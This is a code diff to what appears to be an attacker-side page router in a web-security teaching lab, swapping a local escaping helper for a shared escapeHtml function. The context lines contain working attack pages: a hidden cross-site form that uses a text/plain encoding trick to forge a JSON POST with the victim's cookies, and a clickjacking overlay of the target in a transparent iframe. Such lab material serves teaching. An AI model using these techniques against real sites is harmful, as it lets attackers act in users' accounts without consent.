@@ -1,5 +1,5 @@
 import Router from '@koa/router';
-import type { LabTopology } from '@lab/shared';
+import { escapeHtml, type LabTopology } from '@lab/shared';
 import type { LootStore } from '../loot.ts';
 import { isPayloadName, renderPayload } from '../payloads/payloads.ts';
 
@@ -26,7 +26,7 @@ export function createPageRoutes(topology: LabTopology, loot: LootStore): Router
     ctx.body = page(
       'You won a prize!',
       `<p>(Meanwhile, this page calls the app's API with the victim's cookies.)</p>
-<form id="forged" method="POST" action="${escapeAttribute(`${spa}/api/notes`)}" enctype="text/plain" hidden>
+<form id="forged" method="POST" action="${escapeHtml(`${spa}/api/notes`)}" enctype="text/plain" hidden>
   <!-- text/plain sends name=value: this name and value make the body {"text":"…","padding":"="}, valid JSON. -->
   <input name='{"text":"Mallory was here (cross-site form)","padding":"' value='"}'>
 </form>
@@ -60,7 +60,7 @@ export function createPageRoutes(topology: LabTopology, loot: LootStore): Router
       'Click to claim your prize',
       `<div style="position:relative;width:640px;height:520px">
   <button style="position:absolute;top:300px;left:40px;font-size:24px">Claim prize</button>
-  <iframe id="victim" src="${escapeAttribute(target)}" style="position:absolute;top:0;left:0;width:640px;height:520px;opacity:0.3;border:2px dashed red"></iframe>
+  <iframe id="victim" src="${escapeHtml(target)}" style="position:absolute;top:0;left:0;width:640px;height:520px;opacity:0.3;border:2px dashed red"></iframe>
 </div>`,
     );
   });
@@ -81,8 +81,4 @@ function page(title: string, body: string): string {
   return `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
 <style>body{font:18px/1.5 system-ui,sans-serif;margin:0;background:#222;color:#eee}.role{background:#b00020;color:#fff;padding:.6rem 1.2rem;font-weight:700}main{padding:1rem 1.5rem}</style>
 </head><body><div class="role">You are on the ATTACKER's site (Mallory)</div><main><h1>${title}</h1>${body}</main></body></html>`;
-}
-
-function escapeAttribute(value: string): string {
-  return value.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
 }
